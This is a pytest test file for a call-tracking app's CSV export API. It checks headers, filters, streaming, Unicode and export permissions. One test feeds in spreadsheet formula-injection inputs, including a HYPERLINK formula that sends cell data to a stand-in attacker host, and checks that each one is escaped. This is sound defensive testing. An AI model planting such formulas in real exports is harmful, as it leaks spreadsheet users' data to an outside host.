"""/api/v1/projects/{id}/calls.csv: one row per call, the list's filters, safe in spreadsheets."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import httpx

from dialtrail.calls import export
from tests.support.call_rows import NOW, CallRows, entity_snapshot
from tests.support.people import World


def download(world: World, **params: str) -> httpx.Response:
    url = f"/api/v1/projects/{world.project_id}/calls.csv"
    response = world.owner.client.get(url, params=params)
    assert response.status_code == 200, response.text
    return response


def table(response: httpx.Response) -> list[dict[str, str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_it_sends_an_attachment_of_utf8_csv_with_a_byte_order_mark(
    world: World, rows: CallRows
) -> None:
    rows.call()

    response = download(world)

    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment;")
    assert f'filename="calls-{world.project_id}-' in disposition
    assert response.content.startswith("\ufeff".encode())


def test_the_header_has_the_call_fields_visit_fields_and_one_column_per_entity(
    world: World, rows: CallRows
) -> None:
    rows.call(NOW, entities={"visit_id": entity_snapshot("a")}, visit={"utm_source": "x"})
    rows.call(NOW, entities={"offer": entity_snapshot("b")}, visit={"coupon": "SPRING"})

    header = next(csv.reader(io.StringIO(download(world).content.decode("utf-8-sig"))))

    assert header[:3] == ["id", "external_id", "provider"]
    assert {"caller", "tracking_number", "session_id", "candidate_session_ids"} <= set(header)
    assert "visit" not in header
    assert "entities" not in header
    assert header.index("visit.utm_source") < header.index("visit.coupon")
    assert len(header) == len(set(header))  # every visit field once, however it got there
    assert header[-2:] == ["entity.offer", "entity.visit_id"]


def test_it_writes_one_row_per_call_with_the_lists_filters(world: World, rows: CallRows) -> None:
    session = rows.session()
    visit = {"utm_source": "newsletter", "page_views": 3}
    kept = [
        rows.call(
            NOW - timedelta(minutes=minutes), session=session, disposition="answered", visit=visit
        )
        for minutes in range(3)
    ]
    rows.call(NOW, disposition="busy")

    found = table(download(world, disposition="answered"))

    assert [int(row["id"]) for row in found] == kept
    # Random keys start with "-" one time in 64, and such a cell gets the formula guard.
    assert {row["session_id"] for row in found} == {export.spreadsheet_safe(session.key)}
    assert {row["visitor_id"] for row in found} == {export.spreadsheet_safe(session.visitor_key)}
    assert found[0]["started_at"] == "2026-11-27T12:00:00Z"
    assert (found[0]["visit.utm_source"], found[0]["visit.page_views"]) == ("newsletter", "3")
    assert found[0]["is_first_call"] == "true"


def test_it_neutralises_formulas_in_cells(world: World, rows: CallRows) -> None:
    hostile = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
    rows.call(
        NOW,
        entities={"visit_id": entity_snapshot(hostile), "coupon": entity_snapshot("@SUM(1+1)")},
        visit={"utm_source": "-2+3", "utm_campaign": "\tcmd", "referrer": "\rx", "gclid": "\ny"},
    )

    row = table(download(world))[0]

    assert row["entity.visit_id"] == "'" + hostile
    assert row["entity.coupon"] == "'@SUM(1+1)"
    assert row["visit.utm_source"] == "'-2+3"
    assert row["visit.utm_campaign"] == "'\tcmd"
    assert row["visit.referrer"] == "'\rx"
    assert row["visit.gclid"] == "'\ny"
    # E.164 numbers keep their + as text instead of becoming a sum.
    assert row["caller"] == "'+442079460001"
    assert row["tracking_number"] == "'+442079460958"


def test_cyrillic_commas_quotes_and_newlines_round_trip(world: World, rows: CallRows) -> None:
    awkward = 'Київ, "центр"\nрядок 2; кінець'  # noqa: RUF001 (Ukrainian on purpose)
    rows.call(NOW, entities={"visit_id": entity_snapshot(awkward)}, visit={"utm_term": "знижка"})

    row = table(download(world))[0]

    assert row["entity.visit_id"] == awkward
    assert row["visit.utm_term"] == "знижка"


def test_it_streams_more_calls_than_one_page(world: World, rows: CallRows) -> None:
    count = export.CHUNK + 3
    rows.add_many([rows.call_row(NOW - timedelta(seconds=second)) for second in range(count)])

    found = table(download(world))

    assert len(found) == count
    assert len({row["id"] for row in found}) == count


def test_an_empty_export_has_only_the_header(world: World) -> None:
    text = download(world).content.decode("utf-8-sig")

    assert text.splitlines()[0].startswith("id,external_id,")
    assert len(text.splitlines()) == 1


def test_bad_filters_are_refused_before_any_csv(world: World) -> None:
    url = f"/api/v1/projects/{world.project_id}/calls.csv"
    response = world.owner.client.get(url, params={"attribution": "nobody"})

    assert response.status_code == 422
    assert response.json()["fields"][0]["field"] == "attribution"


def test_a_member_and_a_superuser_may_export(world: World, rows: CallRows) -> None:
    rows.call()
    url = f"/api/v1/projects/{world.project_id}/calls.csv"

    for person in (world.member, world.superuser):
        response = person.client.get(url)
        assert response.status_code == 200
        assert len(table(response)) == 1
